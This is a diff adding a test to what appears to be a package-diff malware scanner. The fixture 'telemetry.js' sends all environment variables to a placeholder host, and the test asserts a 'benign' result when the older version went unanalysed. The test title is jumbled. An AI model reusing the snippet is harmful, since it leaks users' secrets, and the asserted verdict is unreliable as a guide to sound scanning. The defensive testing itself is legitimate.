@@ -109,6 +109,38 @@ describe('diffPackages', () => {
     expect(diff.transition.reasons).toContain('install script added: postinstall');
   });
 
+  it('claims no threat new on a file from did not finish analysing and to ships unchanged', async () => {
+    const thief = {
+      name: 'package/lib/telemetry.js',
+      content: [
+        "const https = require('https');",
+        'const body = JSON.stringify(process.env);',
+        "const req = https.request('https://collector.invalid/e', { method: 'POST' });",
+        'req.end(body);',
+      ].join('\n'),
+    };
+    const entries = (version: string) => [
+      manifest(version),
+      { name: 'package/index.js', content: CLEAN_INDEX },
+      thief,
+    ];
+    // `from`'s time budget ran out before its code was read (a loaded machine, a huge package).
+    const fromContents = await readTarball(await makeTgz(entries('1.0.0')), { source: 'from.tgz' });
+    const from = analyzeSide(fromContents.files, {}, { timeBudgetMs: 0 });
+    expect(from.facts.files.find((f) => f.file === 'lib/telemetry.js')?.factsTruncated).toBe(true);
+    const to = await side(entries('1.0.1'));
+    const threat = (f: { kind: string; file?: string }) =>
+      f.kind === 'threat' && f.file === 'lib/telemetry.js';
+    expect(to.assessment.findings.some(threat)).toBe(true);
+    const diff = diffPackages(from, to);
+    expect(diff.delta.findings).toEqual([]);
+    expect(diff.transition.verdict).toBe('benign');
+    // Changed in `to`, the same findings are new.
+    const edited = { ...thief, content: `${thief.content}\n// v2` };
+    const changed = await side([...entries('1.0.1').slice(0, 2), edited]);
+    expect(diffPackages(from, changed).delta.findings.some(threat)).toBe(true);
+  });
+
   it('does not report a threat already present in from as new', async () => {
     const thief = [
       manifest('2.0.0', { scripts: { postinstall: 'node lib/telemetry.js' } }),
